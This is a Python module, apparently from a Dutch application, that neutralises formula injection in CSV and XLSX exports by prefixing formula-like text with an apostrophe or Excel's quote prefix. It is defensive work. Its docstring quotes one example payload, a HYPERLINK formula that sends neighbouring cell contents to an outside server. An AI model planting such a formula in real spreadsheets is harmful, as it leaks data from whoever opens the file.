"""Formula injection: text from the database must never become a formula in a spreadsheet.

A spreadsheet program evaluates a cell that starts with `=`, `+`, `-` or `@` (and, after a
leading tab or carriage return, whatever follows): `=HYPERLINK("https://…?"&A1, "klik")`
in an aanbod's description would send the cells next to it to someone else's server when
a colleague opens an export. Every CSV and XLSX file we write passes its text cells
through here:

- CSV has no cell types, so such text gets a leading apostrophe, the way spreadsheet
  programs themselves mark "this is text" (OWASP, "CSV Injection"). `tekst_uit_csv` takes
  it off again when we read our own files back, so export → import → export is exact;
  text that itself starts with an apostrophe before such a sign gets one more, so the
  two directions are each other's inverse.
- XLSX has cell types: the cell is written as text (never as a formula) and marked with
  Excel's own "quote prefix", so the value stays exactly what was typed.

A sign and nothing but digits, spaces and `+-()./,:%` (a phone number such as
`+31 543 123 456`, a negative number, a lone `-`) is left alone: without letters, a
reference or a function there is nothing to call or send, and prefixing every
international phone number would break the files for their readers.
"""

from __future__ import annotations

import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

TEKENS = ("=", "+", "-", "@", "\t", "\r")
# Apart from the sign: only what a number or a phone number is made of.
_ONSCHULDIG = re.compile(r"[+-][0-9\s+\-().,/:%]*")
_APOSTROF = "'"


def is_formule(tekst: str) -> bool:
    """Would a spreadsheet program evaluate this text (and could it do harm)?"""
    if not tekst or tekst[0] not in TEKENS:
        return False
    return not _ONSCHULDIG.fullmatch(tekst)


def _beschermd(tekst: str) -> bool:
    """Text that gets an apostrophe in CSV: a formula, or text that already starts with
    apostrophes before one (so reading it back cannot mistake it for our own)."""
    return is_formule(tekst.lstrip(_APOSTROF))


def tekst_voor_csv(waarde):
    """A CSV cell value: formula-like text with a leading apostrophe, the rest unchanged."""
    if isinstance(waarde, str) and waarde and _beschermd(waarde):
        return _APOSTROF + waarde
    return waarde


def tekst_uit_csv(tekst: str) -> str:
    """The inverse of `tekst_voor_csv`, for text read from a CSV file."""
    if tekst.startswith(_APOSTROF) and _beschermd(tekst[1:]):
        return tekst[1:]
    return tekst


def als_tekst(cel: Cell, waarde) -> Cell:
    """Put `waarde` in an openpyxl cell; text that looks like a formula stays text.

    openpyxl stores any string that starts with `=` as a formula; setting the data type
    after the value makes it an ordinary text cell, and `quotePrefix` is what Excel
    itself sets when someone types an apostrophe first."""
    cel.value = waarde
    if isinstance(waarde, str) and waarde:
        cel.data_type = "s"
        if is_formule(waarde):
            cel.quotePrefix = True
    return cel


def xlsx_waarde(blad, waarde):
    """For `blad.append([...])` in a write-only sheet: the value itself, or, for text that
    looks like a formula, a text cell that says so (see `als_tekst`)."""
    if isinstance(waarde, str) and waarde and waarde[0] in TEKENS:
        return als_tekst(WriteOnlyCell(blad), waarde)
    return waarde
